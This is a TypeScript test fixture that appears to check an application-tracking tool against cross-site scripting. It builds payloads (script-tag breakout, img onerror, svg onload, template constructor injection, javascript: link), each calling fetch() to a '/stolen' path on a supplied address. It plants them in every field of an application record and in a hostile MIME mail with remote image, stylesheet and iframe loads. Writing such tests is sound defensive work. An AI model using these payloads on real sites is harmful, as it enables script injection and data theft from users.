import type { Application } from "#domain/facts/schema.ts";
import { larkfield } from "./larkfield.ts";

/** Everything that a careless page would run: in a text, in an attribute, in a template, as a link. */
export function scriptFor(address: string): string {
  const run = `window.hacked=1;fetch('${address}/stolen')`;
  return [
    `"><script>${run}</script>`,
    `<img src="${address}/pixel" onerror="${run}">`,
    `<svg onload="${run}"></svg>`,
    `'-alert(1)-'`,
    `{{constructor.constructor("${run}")()}}`,
    `javascript:window.hacked=1`,
  ].join(" ");
}

/** An application with a script in every text that a person or a mail can bring. */
export function hostileApplication(script: string): Application {
  const [panel] = larkfield.interviews;
  return {
    ...larkfield,
    company: `Larkfield ${script}`,
    role: `Engineer ${script}`,
    people: larkfield.people.map((person) => ({
      ...person,
      name: `${person.name} ${script}`,
      salutation: `${person.id} ${script}`,
      title: script,
      linkedin: `https://larkfield.example/?q=${encodeURIComponent(script)}`,
    })),
    interviews: [
      {
        ...panel!,
        debrief: {
          notes: [
            { person: "priya", specifics: [`every change goes to one plant first ${script}`] },
            { person: "tom", specifics: [`the pager is shared ${script}`] },
          ],
          fit: `ran releases ${script}`,
          questions: [{ question: script, answer: script }],
          correction: { person: "tom", topic: script, better: script },
          promised: [{ id: "m1", what: `the case study ${script}`, to: "priya" }],
          insight: script,
        },
      },
    ],
    events: [
      { id: "e1", type: "applied", at: "2026-10-28T12:00:00-04:00[America/New_York]" },
      {
        ...{ id: "e2", type: "timeline-stated", by: "dana", words: script },
        ...{ at: "2026-11-24T15:30:00-05:00[America/New_York]", answerBy: "2026-12-04" },
      },
      {
        ...{ id: "e3", type: "step-skipped", step: "linkedin-connect:r1:tom", why: script },
        at: "2026-11-24T16:30:00-05:00[America/New_York]",
      },
      {
        ...{ id: "e4", type: "reply-received", from: "dana", class: "information-request" },
        ...{ at: "2026-11-25T09:00:00-05:00[America/New_York]", asks: [script], subject: script },
      },
    ],
  };
}

/** A mail of Dana's in which sender, subject, text and HTML carry the script. */
export function hostileMail(script: string, address: string): string {
  const encoded = (text: string) => `=?utf-8?B?${Buffer.from(text).toString("base64")}?=`;
  return [
    `From: ${encoded(script.slice(0, 40))} <dana@larkfield.example>`,
    "To: Maya Lindqvist <maya@example.org>",
    "Date: Wed, 25 Nov 2026 10:12:00 -0500",
    "Message-ID: <hostile@larkfield.example>",
    `Subject: ${encoded(`Re: ${script}`)}`,
    "MIME-Version: 1.0",
    'Content-Type: multipart/alternative; boundary="b"',
    "",
    "--b",
    "Content-Type: text/plain; charset=utf-8",
    "",
    `No news yet. You will hear from me by 11 December. ${script}`,
    "--b",
    "Content-Type: text/html; charset=utf-8",
    "",
    `<p>No news yet.</p><img src="${address}/pixel.gif"><link rel=stylesheet href="${address}/a.css"><iframe src="${address}/"></iframe>${script}`,
    "--b--",
    "",
  ].join("\r\n");
}
